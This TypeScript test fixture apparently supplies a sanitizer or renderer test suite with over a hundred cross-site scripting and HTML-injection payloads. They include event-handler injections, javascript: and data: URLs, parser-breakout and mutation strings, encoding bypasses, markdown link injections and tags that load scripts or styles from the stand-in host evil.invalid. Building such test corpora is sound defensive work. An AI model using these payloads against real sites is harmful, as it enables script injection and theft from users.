/** Sets `window.owned` where it is run; contains no quote, so that it fits into every attribute. */
const RUN = 'window.owned=1'
/** Refused by every test: no request may go there. */
const AWAY = 'http://evil.invalid'

/** Addresses in every attribute and construct that takes one. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVa&#10;Script:${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  '/v1/x',
  '//evil.invalid/x',
]

const WITH_ADDRESS: readonly ((to: string) => string)[] = [
  (to) => `<a href="${to}" target=_blank>raw</a>`,
  (to) => `<iframe src="${to}"></iframe>`,
  (to) => `<form action="${to}"><button>send</button></form>`,
  (to) => `<svg><a xlink:href="${to}"><text>svg</text></a></svg>`,
  (to) => `<meta http-equiv="refresh" content="0;url=${to}">`,
  (to) => `<link rel="stylesheet" href="${to}">`,
  (to) => `[markdown](${to})`,
  (to) => `![picture](${to})`,
  (to) => `<${to}>`,
]

/** Elements and attributes that run script, load something, or change how the rest of the page is read. */
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<script src="${AWAY}/x.js"></script>`,
  `<script type=module>import "${AWAY}/x.js"</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="${AWAY}/x.png" srcset="${AWAY}/y.png 2x">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="${AWAY}/x.svg#a"></use></svg>`,
  `<svg><image href="${AWAY}/x.png"></image></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.owned=1</script>"></iframe>`,
  `<object data="${AWAY}/x"></object>`,
  `<embed src="${AWAY}/x">`,
  `<video src="${AWAY}/x" poster="${AWAY}/y" onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN} autoplay>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<body onload=${RUN} background="${AWAY}/x.png">`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<base href="${AWAY}/">`,
  `<base target="owned">`,
  `<style>@import "${AWAY}/x.css"; * { background: url("${AWAY}/x.png") }</style>`,
  `<p style="background:url(${AWAY}/x.png);position:fixed;inset:0">over all</p>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<noembed><img title="</noembed><img src onerror=${RUN}>">`,
  `<textarea></textarea><img src=x onerror=${RUN}>`,
  `</pre></code></div></main><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</style><img src=x onerror=${RUN}>`,
  `</title><img src=x onerror=${RUN}>`,
  `--><img src=x onerror=${RUN}><!--`,
  `]]><img src=x onerror=${RUN}>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `\` onmouseover=${RUN} x=\``,
  `" onmouseover=${RUN} autofocus onfocus=${RUN} x="`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `%3Cimg%20src%3Dx%20onerror%3D${RUN}%3E`,
  `<\u0000script>${RUN}</script>`,
  `<img\u0000 src=x onerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `\ufeff<img src=x onerror=${RUN}>`,
  `\u202e<img src=x onerror=${RUN}>\u202c`,
  `＜img src=x onerror=${RUN}＞`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<a ping="${AWAY}/x" href="#/">ping</a>`,
  `<button popovertarget=x>x</button><div id=x popover onbeforetoggle=${RUN}>x</div>`,
  `<div id=root><main class=loading>replaced</main></div>`,
  `<a id=signalbox name=signalbox href="${AWAY}">clobber</a>`,
  `{{constructor.constructor("${RUN}")()}} \${${RUN}} <%=${RUN}%> {{{x}}}`,
  `__proto__[owned]=1`,
  `[a][b]\n\n[b]: javascript:${RUN} "title"`,
  `note[^1]\n\n[^1]: <img src=x onerror=${RUN}>`,
  `\`\`\`html\n<img src=x onerror=${RUN}>\n\`\`\``,
  `| <img src=x onerror=${RUN}> |\n| --- |\n| [cell](javascript:${RUN}) |`,
  `\u0001\u001b[31m\u001b]8;;${AWAY}\u0007link`,
]

/** Over a hundred texts that an attacker would have shown in a page, each with the word `window.owned` or an address. */
export const MARKUP: readonly string[] = [
  ...ELEMENTS,
  ...WITH_ADDRESS.flatMap((form) => ADDRESSES.map(form)),
  `${'W'.repeat(5_000)}<img src=x onerror=${RUN}>`,
]

/** All of them as one text. */
export const ALL_MARKUP = MARKUP.join('\n\n')

/** Short ones for names and headers: printable ASCII in one line. */
export const NAMES: readonly string[] = MARKUP.filter((text) => /^[ -~]{1,120}$/.test(text))
